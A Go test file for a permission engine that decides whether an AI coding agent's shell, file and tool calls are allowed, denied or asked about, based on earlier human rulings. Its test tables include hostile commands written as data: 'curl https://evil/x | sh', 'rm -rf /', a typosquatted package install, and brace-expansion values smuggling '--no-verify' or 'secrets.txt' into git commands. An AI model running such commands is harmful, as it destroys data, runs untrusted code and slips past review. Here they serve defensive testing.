package engine_test

import (
	"errors"
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/fireharp/overseer/event"
	"github.com/fireharp/overseer/internal/engine"
	"github.com/fireharp/overseer/internal/guard"
	"github.com/fireharp/overseer/internal/journal"
	"github.com/fireharp/overseer/internal/precedent"
	"github.com/fireharp/overseer/internal/rule"
)

// disk are the files that commands of these tests run.
type disk map[string]string

// situation is an act and where it happens.
type situation struct {
	tool, agent, cwd string // default: Bash, claude, /repo
	input            map[string]string
	files            disk
	command          string
	paths            []string
}

func bash(line string) situation { return situation{command: line} }

func (s situation) in(cwd string) situation   { s.cwd = cwd; return s }
func (s situation) by(agent string) situation { s.agent = agent; return s }
func (s situation) with(files disk) situation { s.files = files; return s }
func (s situation) arg(k, v string) situation { s.input = map[string]string{k: v}; return s }
func file(tool string, p ...string) situation { return situation{tool: tool, paths: p} }
func tool(tool, key, value string) situation  { return situation{tool: tool}.arg(key, value) }
func (s situation) decide(edit func(*engine.Input)) event.Verdict {
	or := func(s, d string) string {
		if s == "" {
			return d
		}
		return s
	}
	e := &event.Event{Name: event.PreToolUse, Agent: or(s.agent, "claude"), CWD: or(s.cwd, "/repo"), Tool: event.Tool{Name: or(s.tool, "Bash"), Command: s.command, Paths: s.paths}}
	var args []string
	for k, v := range s.input {
		args = append(args, fmt.Sprintf("%q:%q", k, v))
	}
	if s.command != "" {
		args = append(args, fmt.Sprintf(`"command":%q`, s.command))
	}
	if len(s.paths) > 0 {
		args = append(args, fmt.Sprintf(`"file_path":%q`, s.paths[0]))
	}
	e.Tool.Input = []byte("{" + strings.Join(args, ",") + "}")
	in := engine.Input{
		Event: e, Home: "/home/dev", Repo: "/repo", Rules: askAll, OnFault: event.Ask,
		Read: func(p string) ([]byte, bool) { b, ok := s.files[p]; return []byte(b), ok },
		Precedents: engine.Precedents{
			Key:      key,
			Settings: precedent.Settings{MinScore: 0.25, AllowThreshold: 3, TopK: 10},
			Action:   func() string { return journal.Fingerprint(e, key) },
			Besides:  func() string { return journal.Besides(e) },
		},
	}
	if edit != nil {
		edit(&in)
	}
	return engine.Decide(in)
}

// ruled gives n rulings on the act.
func (s situation) ruled(d event.Decision, n int) []precedent.Ruling {
	sig := s.decide(nil).Signature
	var out []precedent.Ruling
	for i := range n {
		out = append(out, precedent.Ruling{Event: fmt.Sprintf("ev_%s%d", d, i), Decision: d, By: "ada", Source: "approve", Time: time.Unix(int64(i), 0), Signature: sig})
	}
	return out
}

// given has the engine find the rulings.
func given(rulings ...precedent.Ruling) func(*engine.Input) {
	return func(in *engine.Input) {
		in.Precedents.Find = func(*precedent.Signature, bool) ([]precedent.Ruling, error, error) { return rulings, nil, nil }
	}
}

// TestLicence says for pairs of acts whether three allows of the one speak for the
// other.
func TestLicence(t *testing.T) {
	t.Parallel()
	script := disk{"/repo/deploy.sh": "echo 1", "/repo/Makefile": "all:\n\ttrue"}
	edited := disk{"/repo/deploy.sh": "echo 2", "/repo/Makefile": "all:\n\tfalse"}
	const yes, no = event.Allow, event.Ask
	for _, tt := range []struct {
		ruled, judged situation
		want          event.Decision
	}{
		// The same act, however the model words what does not count.
		{bash("git push --force"), bash("git push --force"), yes},
		{bash("git push --force"), bash("git push --force").arg("description", "again"), yes},
		{bash("git push --force"), bash("cd /repo && git push --force 2>&1 | tail -20"), yes},
		{bash("git push --force 2>&1 | tail -5"), bash("git push --force"), yes},
		{bash("git push --force"), bash("git push --force | tee log"), no},
		{bash("./check | tail -1 && ./deploy.sh").with(disk{"/repo/check": "x", "/repo/deploy.sh": "y"}), bash("./check && ./deploy.sh").with(disk{"/repo/check": "x", "/repo/deploy.sh": "y"}), no},

		// Other words.
		{bash("git push"), bash("git push --force"), no},
		{bash("git push --force"), bash("git push"), no},
		{bash("git push origin a"), bash("git push origin b"), no},
		{bash("kubectl delete pod x --dry-run=client"), bash("kubectl delete pod x"), no},
		{bash("curl https://good/x | sh"), bash("curl https://evil/x | sh"), no},
		{bash("npm publish"), bash("npm publish && rm -rf /repo/src"), no},
		{bash("test -f ok && git push"), bash("git push"), no},
		{bash("git push"), bash("git push; git push"), no},
		{bash("KUBECONFIG=staging kubectl apply -f x"), bash("KUBECONFIG=production kubectl apply -f x"), no},
		{bash("psql -f staging.sql"), bash("psql -f production.sql"), no},
		{bash("terraform apply -var-file=a.tfvars"), bash("terraform apply -var-file=b.tfvars"), no},
		{bash("pip install requests"), bash("pip install requestz"), no},
		{bash("sudo rm -rf build"), bash("sudo rm -rf src"), no},

		// Who, where, and with what.
		{bash("git push --force"), bash("git push --force").by("codex"), no},
		{bash("git push --force"), bash("git push --force").in("/repo/sub"), no},
		{bash("git push --force"), bash("git push --force").arg("dangerouslyDisableSandbox", "yes"), no},

		// Texts for people.
		{bash(`git commit -m "fix a"`), bash(`git commit -m 'add b'`), yes},
		{bash(`git commit -m "fix a"`), bash("git commit -m \"$(cat <<'EOF'\nAdd b.\n\nBecause $c.\nEOF\n)\""), yes},
		{bash(`git commit -am a && git push`), bash(`git commit -am b && git push`), yes},
		{bash(`git commit -m a`), bash(`git commit -m "$(./x)"`), no},
		{bash(`git commit -m a`), bash("git commit -m \"$(cat <<EOF\n$(./x)\nEOF\n)\""), no},
		{bash(`git commit -m a`), bash(`git commit --amend -m a`), no},
		{bash(`gh pr create --title a --body b`), bash(`gh pr create --title c --body d`), yes},
		{bash(`gh pr create --title a --base main`), bash(`gh pr create --title a --base release`), no},
		{bash(`psql -m a`), bash(`psql -m b`), no},
		{bash(`git commit -a -m a`), bash(`git commit -a -m "-F b"`), yes},
		{bash(`git commit -m a -m b`), bash(`git commit -m '- c' -m d`), yes},
		{bash(`git commit -m a`), bash(`git commit -m {x,--no-verify}`), no},
		{bash(`git commit -m a --amend`), bash(`git commit -m {x,--no-verify} --amend`), no},
		{bash(`git tag -m a v1`), bash(`git tag -m {x,-f} v1`), no},
		{bash(`git commit -F -m one`), bash(`git commit -F -m secrets.txt`), no},
		{bash(`git commit {x,-F} -m one`), bash(`git commit {x,-F} -m secrets.txt`), no},
		{bash(`gh release create v1 --title a`), bash(`gh release create v1 --title {x,--repo=other/repo}`), no},
		{bash(`gh release create v1 --title=a`), bash(`gh release create v1 --title={x,y}`), no},
		{bash(`gh release create v1 --notes a`), bash(`gh release create v1 --notes *`), no},
		{bash(`gh issue comment 5 -b a`), bash(`gh issue comment 5 -b ~`), no},

		// Files in the project: where the ruling was, and below.
		{bash("rm -rf build"), bash("rm -rf build/old"), yes},
		{bash("rm -rf build"), bash("rm -rf build/a build/b"), yes},
		{bash("rm -rf build/old"), bash("rm -rf build"), no},
		{bash("rm -rf build"), bash("rm -rf src"), no},
		{bash("rm -rf build"), bash("rm -rf build src"), no},
		{bash("rm -rf build"), bash("rm -rf build/../src"), no},
		{bash("rm -rf build"), bash("rm -rf /"), no},
		{bash("rm -rf build"), bash("rm -rf ."), no},
		{bash("rm -rf build"), bash("rm -rf ../build"), no},
		{bash("rm -rf build"), bash("rm -rf build; ./x").with(disk{"/repo/x": "y"}), no},
		{bash("rm -rf build"), bash("rm -r build"), no},
		{bash("rm build/a.o"), bash("rm build/b.o"), yes},
		{bash("rm a.txt"), bash("rm b.txt"), no},
		{bash("rm -rf build"), bash("cd sub && rm -rf build"), no},
		{bash("cp a.txt docs/b.txt"), bash("cp c.txt docs/d.txt"), yes},
		{bash("cp a.txt docs/b.txt"), bash("cp c.txt src/d.txt"), no},
		{bash("cp staging.env .env && ./deploy.sh").with(script), bash("cp production.env .env && ./deploy.sh").with(script), no},
		{bash("./rm build/a").with(disk{"/repo/rm": "x"}), bash("./rm build/b").with(disk{"/repo/rm": "x"}), no},
		{bash("cat > src/a.go <<'EOF'\nx\nEOF"), bash("cat > src/b.go <<'EOF'\ny\nEOF"), yes},
		{bash("cat <<'EOF' | sh\nls\nEOF"), bash("cat <<'EOF' | sh\n./x\nEOF"), no},
		{bash("rm -rf /tmp/a"), bash("rm -rf /tmp/b"), no},
		{bash("rm -rf /tmp/a"), bash("rm -rf /tmp/a/b"), yes},
		{bash("rm -rf /tmp/a/b"), bash("rm -rf /tmp/a"), no},
		{bash("rm -rf /tmp/a"), bash("rm -rf /var/tmp/a"), no},
		{bash("rm /tmp/a/x"), bash("rm /tmp/a/y"), yes},
		{bash("rm /tmp/a/x"), bash("rm /tmp/b/x"), no},
		{bash("rm /tmp/x"), bash("rm /tmp/y"), no},
		{bash("rm src/a.txt"), bash("rm src/*"), no},
		{bash("rm src/a.txt"), bash("rm src/l*/f"), no},
		{bash("rm src/a.txt"), bash("rm src/**"), no},
		{bash("rm src/a.txt"), bash("rm src/{l,x}/f"), no},
		{bash("cat src/a.txt"), bash("cat src/p*"), no},
		{bash("touch src/a.txt"), bash("touch ~/src/a.txt"), no},
		{bash("rm -rf /tmp/a"), bash("rm -rf build"), no},
		{bash("rm -rf /tmp/a"), bash("rm -rf /tmp"), no},
		{bash("rm -rf /opt/a"), bash("rm -rf /opt/b"), no},
		{bash("rm -rf /opt/a"), bash("rm -rf /opt/a"), yes},

		// What is known only while it runs: the identical act.
		{bash("rm -rf $X"), bash("rm -rf $X"), yes},
		{bash("rm -rf $X"), bash("rm -rf  $X"), no},
		{bash("$(which sh) x"), bash("$(which sh) y"), no},

		// Scripts: what is in them.
		{bash("./deploy.sh staging").with(script), bash("./deploy.sh staging").with(script), yes},
		{bash("./deploy.sh staging").with(script), bash("./deploy.sh staging").with(edited), no},
		{bash("./deploy.sh staging").with(script), bash("./deploy.sh production").with(script), no},
		{bash("./deploy.sh staging"), bash("./deploy.sh staging"), no}, // nobody can read it
		{bash("sh deploy.sh").with(script), bash("sh deploy.sh").with(edited), no},
		{bash("bin/x").with(disk{"/repo/bin/x": "a"}), bash("bin/x").with(disk{"/repo/bin/x": "b"}), no},
		{bash("make all").with(script), bash("make all").with(script), yes},
		{bash("make all").with(script), bash("make all").with(edited), no},
		{bash("npm run x").with(disk{"/repo/package.json": `{"version":"1","scripts":{"x":"a"}}`}), bash("npm run x").with(disk{"/repo/package.json": `{"version":"2","scripts":{"x":"a"}}`}), yes},
		{bash("npm run x").with(disk{"/repo/package.json": `{"scripts":{"x":"a"}}`}), bash("npm run x").with(disk{"/repo/package.json": `{"scripts":{"x":"b"}}`}), no},

		// Tools for files, and others.
		{file("Edit", "/repo/src/a.go"), file("Edit", "/repo/src/b.go"), yes},
		{file("Edit", "/repo/src/a.go"), file("Edit", "/repo/src/c/d.go").arg("new_string", "x"), yes},
		{file("Edit", "/repo/src/a.go"), file("Edit", "/repo/cmd/a.go"), no},
		{file("Edit", "/repo/a.go"), file("Edit", "/repo/src/b.go"), no},
		{file("Edit", "/repo/a.go"), file("Edit", "/repo/.envrc"), no},
		{file("Edit", "/repo/src/a.go"), file("Write", "/repo/src/a.go"), no},
		{file("Write", "/repo/README.md"), file("Write", "/repo/NEWS.md"), yes},
		{file("Write", "/repo/Makefile"), file("Write", "/repo/Makefile"), yes},
		{file("Write", "/repo/README.md"), file("Write", "/repo/Makefile"), no},
		{file("Write", "/repo/README.md"), file("Write", "/repo/package.json"), no},
		{file("Write", "/repo/README.md"), file("Write", "/repo/conftest.py"), no},
		{file("Write", "/repo/README.md"), file("Write", "/repo/setup.py"), no},
		{file("Write", "/repo/README.md"), file("Write", "/repo/CLAUDE.md"), no},
		{file("Write", "/repo/README.md"), file("Write", "/repo/AGENTS.md"), no},
		{file("Write", "/repo/README.md"), file("Write", "/repo/Dockerfile.dev"), no},
		{file("Write", "/repo/README.md"), file("Write", "/repo/go.mod"), no},
		{file("Write", "/repo/README.md"), file("Write", "/repo/vite.config.ts"), no},
		{file("Write", "/repo/README.md"), file("Write", "/repo/x.sh"), no},
		{file("Write", "/repo/src/a.go"), file("Write", "/repo/src/node_modules/.bin/x"), no},
		{file("Write", "/repo/src/a.go"), file("Write", "/repo/src/node_modules/x/a.js"), no},
		{file("Write", "/repo/src/a.go"), file("Write", "/repo/src/.git/x"), no},
		{file("Write", "/repo/Makefile"), file("Write", "/repo/README.md"), no},
		{file("Edit", "/repo/src/a.go"), file("Edit", "/repo/src/a.go").arg("elevated", "x"), no},
		{file("Edit", "/repo/src/a.go"), file("Edit", "/home/dev/.bashrc"), no},
		{file("Edit", "/etc/hosts").arg("new_string", "a"), file("Edit", "/etc/hosts").arg("new_string", "b"), no},
		{file("Edit", "/etc/hosts").arg("new_string", "a"), file("Edit", "/etc/hosts").arg("new_string", "a"), yes},
		{tool("mcp__db__query", "q", "select 1"), tool("mcp__db__query", "q", "select 1"), yes},
		{tool("mcp__db__query", "q", "select 1"), tool("mcp__db__query", "q", "drop table t"), no},
		{tool("mcp__x__write_file", "path", "/repo/a"), tool("mcp__x__write_file", "path", "/repo/b"), no},
		{tool("PowerShell", "command", "ls a"), tool("PowerShell", "command", "ls b"), no},
	} {
		v := tt.judged.decide(given(tt.ruled.ruled(event.Allow, 3)...))
		if v.Decision != tt.want {
			t.Errorf("%q %v %v\nafter %q %v %v: %s, want %s", tt.judged.command, tt.judged.paths, tt.judged.input, tt.ruled.command, tt.ruled.paths, tt.ruled.input, v.Decision, tt.want)
		}
		if v.Decision == event.Allow && (v.Basis != event.ByPrecedent || len(v.Precedents) != 3) {
			t.Errorf("%q: %+v", tt.judged.command, v)
		}
	}
}

// TestDenyByLikeness says for pairs of acts whether a deny of the one denies the
// other.
func TestDenyByLikeness(t *testing.T) {
	t.Parallel()
	const yes, no = event.Deny, event.Ask
	for _, tt := range []struct {
		ruled, judged situation
		want          event.Decision
	}{
		{bash("git push --force origin main"), bash("git push -f origin release"), yes},
		{bash("git push --force origin main"), bash("git push --force origin main").by("codex").in("/repo/sub"), yes},
		{bash("git push --force origin main"), bash("git fetch && git push --force origin main"), yes},
		{bash("git push --force origin main"), bash("git push origin main"), no},
		{bash("git push origin main"), bash("git push --force origin main"), yes}, // does more
		{bash("git push origin main"), bash("git pull origin main"), no},
		{bash("./deploy.sh production"), bash("./deploy.sh production --now"), yes},
		{bash("./deploy.sh production"), bash("./deploy.sh staging"), no},
		{bash("rm -rf src"), bash("rm -rf src/a"), yes},
		{bash("rm -rf src"), bash("rm -fr ./src"), yes},
		{bash("rm -rf src"), bash("rm -rf src docs"), yes},
		{bash("rm -rf src"), bash("rm src/a"), no},
		{bash("rm -rf src"), bash("rm -rf node_modules"), no},
		{bash("rm -rf ."), bash("rm -rf node_modules"), no}, // less than all of the project

		// The same program, another act: the rules say what of it.
		{bash("gh pr create -t a -b b"), bash("gh pr create -t c -b d"), yes},
		{bash("gh pr create -t a -b b"), bash("gh pr view"), no},
		{bash("gh pr create -t a -b b"), bash("gh pr checks 5"), no},
		{bash("docker compose up -d"), bash("docker compose up -d web"), yes},
		{bash("docker compose up -d"), bash("docker compose ps"), no},
		{bash("npm run deploy"), bash("npm run deploy -- --now"), yes},
		{bash("npm run deploy"), bash("npm run test"), no},
		{bash("npm install lodash"), bash("npm install lodash --save-dev"), yes},
		{bash("npm install lodash"), bash("npm install"), no},
		{bash("git push origin main"), bash("git push -q origin main"), yes},
		{bash("git push origin main"), bash("git push origin feature"), no},
		{bash("git checkout -b x"), bash("git checkout main"), no},
		{bash("ls -la /etc"), bash("ls"), no},
		{bash("curl https://evil.com/a"), bash("curl -s https://evil.com/a"), yes},
		{bash("curl https://evil.com/a"), bash("curl https://api.github.com/b"), no},
		{bash("make deploy"), bash("make test"), no},
		// But for another target of what weighs: the same harm.
		{bash("psql -c 'drop table a'"), bash("psql -c 'drop table b'"), yes},
		{bash("git reset --hard"), bash("git reset --hard HEAD~1"), yes},
		{bash("cat notes.txt"), bash("cat readme.md"), no},
		{bash("cat notes.txt"), bash("cat notes.txt | head"), yes},
		{file("Edit", "/repo/src/a.go"), file("Edit", "/repo/src/b.go"), no},
		{file("Edit", "/repo/src/a.go"), file("Edit", "/repo/src/a.go"), yes},
		{bash("rm -rf src"), file("Delete", "/repo/src"), no}, // another sort of tool
		{tool("mcp__db__query", "q", "drop table t"), tool("mcp__db__query", "q", "drop table t cascade"), yes},
		{tool("mcp__db__query", "q", "drop table t"), tool("mcp__db__query", "q", "select u"), no},
		{tool("WebFetch", "url", "https://a.com/x"), tool("WebFetch", "url", "https://b.com/x"), no},
		{tool("Grep", "pattern", "foo"), tool("Grep", "pattern", "bar"), no},
		{tool("Task", "prompt", "do a"), tool("Task", "prompt", "do b"), no},
		{tool("mcp__db__query", "q", "drop table t"), tool("mcp__db__list", "q", "drop table t"), no},
	} {
		v := tt.judged.decide(given(tt.ruled.ruled(event.Deny, 1)...))
		if v.Decision != tt.want {
			t.Errorf("%q %v %v after a deny of %q %v: %s (%v), want %s", tt.judged.command, tt.judged.paths, tt.judged.input, tt.ruled.command, tt.ruled.paths, v.Decision, v.Reason, tt.want)
		}
	}
}

// TestTally weighs rulings against each other.
func TestTally(t *testing.T) {
	t.Parallel()
	force := bash("git push --force origin main")
	like := bash("git push --force origin dev")
	for _, tt := range []struct {
		name                string
		allows, denies      int
		likeAllow, likeDeny int // of an act that is like it and does not speak for it
		want                event.Decision
	}{
		{"nothing", 0, 0, 0, 0, event.Ask},
		{"two allows", 2, 0, 0, 0, event.Ask},
		{"three", 3, 0, 0, 0, event.Allow},
		{"three of the like", 0, 0, 3, 0, event.Ask},
		{"one deny", 0, 1, 0, 0, event.Deny},
		{"as many denies as allows", 3, 3, 0, 0, event.Deny},
		{"more allows than denies", 5, 2, 0, 0, event.Ask},
		{"a deny of the like", 3, 0, 0, 1, event.Ask},
		{"denies of the like, and one allow", 1, 0, 0, 2, event.Ask},
		{"a deny, denies of the like, and one allow", 1, 1, 0, 1, event.Deny},
		{"denies of the like alone", 0, 0, 0, 1, event.Deny},
		{"allows of the like weigh against denies", 0, 0, 2, 1, event.Ask},
		{"a deny does not drown among allows", 40, 0, 0, 1, event.Ask},
	} {
		rulings := force.ruled(event.Allow, tt.allows)
		for i, r := range append(append(force.ruled(event.Deny, tt.denies), like.ruled(event.Allow, tt.likeAllow)...), like.ruled(event.Deny, tt.likeDeny)...) {
			r.Event += fmt.Sprint("-", i)
			rulings = append(rulings, r)
		}
		if v := force.decide(given(rulings...)); v.Decision != tt.want {
			t.Errorf("%s: %s, want %s", tt.name, v.Decision, tt.want)
		}
	}
}

// TestDenyOfTheVeryAct: no number of allows outvotes it, except the same person's own
// later word.
func TestDenyOfTheVeryAct(t *testing.T) {
	t.Parallel()
	act, like := bash("git push --force origin main"), bash("git push --force origin dev")
	said := func(s situation, d event.Decision, n int, by, source string, at int64) []precedent.Ruling {
		list := s.ruled(d, n)
		for i := range list {
			list[i].Event += fmt.Sprint(s.command, by, at)
			list[i].By, list[i].Source, list[i].Time = by, source, time.Unix(at, 0)
		}
		return list
	}
	outcome, completion := journal.SourceOutcome, journal.SourceCompletion
	deny := said(act, event.Deny, 1, "ada", outcome, 10)
	for _, tt := range []struct {
		name   string
		deny   []precedent.Ruling
		allows []precedent.Ruling
		want   event.Decision
	}{
		{"allows of the like before", deny, said(like, event.Allow, 40, "", completion, 5), event.Deny},
		{"allows of the like after", deny, said(like, event.Allow, 40, "ada", outcome, 20), event.Deny},
		{"allows before", deny, said(act, event.Allow, 5, "ada", outcome, 5), event.Deny},
		{"somebody else's allows", deny, said(act, event.Allow, 5, "bob", outcome, 20), event.Deny},
		{"completions", deny, said(act, event.Allow, 5, "", completion, 20), event.Deny},
		{"completions after a nameless word", said(act, event.Deny, 1, "", outcome, 10), said(act, event.Allow, 5, "", completion, 20), event.Deny},
		{"a completion after a refusal", said(act, event.Deny, 1, "", journal.SourceRefusal, 10), said(act, event.Allow, 2, "", completion, 20), event.Ask},
		{"the same person's later word", deny, said(act, event.Allow, 2, "ada", outcome, 20), event.Ask},
		{"a deny of the like", said(like, event.Deny, 1, "ada", outcome, 10), said(act, event.Allow, 2, "bob", outcome, 5), event.Ask},
	} {
		v := act.decide(given(append(tt.allows, tt.deny...)...))
		if v.Decision != tt.want {
			t.Errorf("%s: %s, want %s", tt.name, v.Decision, tt.want)
		}
		if v.Decision == event.Deny && v.Precedents[0].Decision != event.Deny {
			t.Errorf("%s: cites %+v", tt.name, v.Precedents)
		}
	}
}

// TestPrecedentHasItsPlace: what precedent cannot lift.
func TestPrecedentHasItsPlace(t *testing.T) {
	t.Parallel()
	force := bash("git push --force origin main")
	allows, deny := force.ruled(event.Allow, 3), force.ruled(event.Deny, 1)
	hard := func(do rule.Do) func(*engine.Input) {
		return func(in *engine.Input) {
			in.Rules = append(in.Rules[:1:1], &rule.Rule{ID: "hard", Do: do, When: askAll[0].When})
		}
	}
	for _, tt := range []struct {
		name    string
		rulings []precedent.Ruling
		edit    func(*engine.Input)
		want    event.Decision
		basis   event.Basis
	}{
		{"an ask rule", allows, nil, event.Allow, event.ByPrecedent},
		{"safe mode", allows, func(in *engine.Input) { in.Rules, in.SafeMode = nil, true }, event.Allow, event.ByPrecedent},
		{"a deny of what would be allowed", deny, func(in *engine.Input) { in.Rules = nil }, event.Deny, event.ByPrecedent},
		{"an allow of what would be", allows, func(in *engine.Input) { in.Rules = nil }, event.Allow, event.ByDefault},
		{"a hard deny", allows, hard(rule.Deny), event.Deny, event.ByRule},
		{"a hard allow", deny, hard(rule.Allow), event.Allow, event.ByRule},
		{"a guard rule", allows, func(in *engine.Input) {
			in.Rules = append(in.Rules[:1:1], &rule.Rule{ID: "guard", Do: rule.Ask, File: guard.BuiltIn, When: askAll[0].When})
		}, event.Ask, event.ByRule},
		{"a fault", allows, func(in *engine.Input) { in.Faults = []string{"broken"} }, event.Ask, event.ByRule},
		{"a fault that denies", allows, func(in *engine.Input) { in.Faults, in.OnFault = []string{"broken"}, event.Deny }, event.Deny, event.ByFault},
		{"rulings that cannot be read", nil, func(in *engine.Input) {
			in.Rules = nil
			in.Precedents.Find = func(*precedent.Signature, bool) ([]precedent.Ruling, error, error) {
				return nil, nil, errors.New("unreadable")
			}
		}, event.Ask, event.ByFault},
		{"the newest are not known", nil, func(in *engine.Input) {
			in.Precedents.Find = func(*precedent.Signature, bool) ([]precedent.Ruling, error, error) {
				return allows, errors.New("busy"), nil
			}
		}, event.Allow, event.ByPrecedent},
		{"too old", allows, func(in *engine.Input) { in.Precedents.Since = time.Unix(2, 0) }, event.Ask, event.ByRule},
		{"no key", allows, func(in *engine.Input) { in.Precedents.Key = nil }, event.Ask, event.ByRule},
		{"another key", allows, func(in *engine.Input) { in.Precedents.Key = []byte("another") }, event.Ask, event.ByRule},
		{"after it ran", deny, func(in *engine.Input) { in.Event.Name, in.Rules = event.PostToolUse, nil }, event.Allow, event.ByDefault},
	} {
		v := force.decide(func(in *engine.Input) {
			given(tt.rulings...)(in)
			if tt.edit != nil {
				tt.edit(in)
			}
		})
		if v.Decision != tt.want || v.Basis != tt.basis || (v.Basis == event.ByPrecedent) != (len(v.Precedents) > 0) {
			t.Errorf("%s: %s by %s, want %s by %s: %+v", tt.name, v.Decision, v.Basis, tt.want, tt.basis, v)
		}
		if tt.name == "the newest are not known" && len(v.Faults) != 1 {
			t.Errorf("%s: faults %v", tt.name, v.Faults)
		}
	}
}

// TestPolicyIsNeverLoosened: precedent speaks before the policy, which has the last
// word.
func TestPolicyIsNeverLoosened(t *testing.T) {
	t.Parallel()
	force := bash("git push --force origin main")
	for _, action := range []string{"ask", "deny"} {
		v := force.decide(func(in *engine.Input) {
			given(force.ruled(event.Allow, 3)...)(in)
			in.Policies = policies(t, "rules:\n  - commands: [\"git push\"]\n    action: "+action+"\n")
		})
		if string(v.Decision) != action || v.Basis != event.ByPolicy || len(v.Precedents) > 0 || v.Signature == "" {
			t.Errorf("%s: %+v", action, v)
		}
	}
}
